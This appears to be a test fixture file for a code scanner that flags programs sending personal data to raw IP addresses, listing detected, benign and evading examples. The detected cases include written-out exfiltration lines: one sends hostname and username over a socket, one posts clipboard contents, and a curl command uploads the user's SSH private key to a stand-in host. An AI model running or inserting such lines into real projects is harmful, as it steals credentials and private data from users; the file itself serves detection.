import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** What goes to a number on the internet. */
export const examples: Examples = {
  hits: [
    {
      name: "who sits where, over a socket",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
const socket = require("socket.io-client")("http://203.0.113.4:4801");
socket.on("connect", () => socket.emit("hello", { host: os.hostname(), user: os.userInfo().username }));
`,
      },
    },
    {
      name: "the clipboard",
      files: {
        "main.py": `import pyperclip, requests
requests.post("http://203.0.113.4:8087/log", data=pyperclip.paste())
`,
      },
    },
    { name: "a key", files: { "setup.sh": "curl -F f=@$HOME/.ssh/id_rsa http://203.0.113.4:1224/keys\n" } },
  ],
  misses: [
    {
      name: "a server that tells its name",
      why: "The name of the computer alone says nothing of a person.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch("http://192.0.2.20/status", { method: "POST", body: os.hostname() });
`,
      },
    },
    {
      name: "a test server on the same computer",
      why: "What goes to this number stays on the computer.",
      files: {
        "package.json": manifest,
        "server.js": 'fetch("http://127.0.0.1:3000/", { method: "POST", body: JSON.stringify(process.env) });\n',
      },
    },
    {
      name: "a question to a well-known name server",
      why: "Nothing of the person is in the question.",
      files: {
        "package.json": manifest,
        "server.js":
          'fetch("https://192.0.2.1/dns-query?name=shop.example", { headers: { accept: "application/dns-json" } });\n',
      },
    },
  ],
  evasions: [
    {
      name: "a name that leads to the same number",
      caughtBy: "code/computer-described-and-sent",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch("https://panel.example/", { method: "POST", body: os.hostname() + os.userInfo().username });
`,
      },
    },
  ],
};
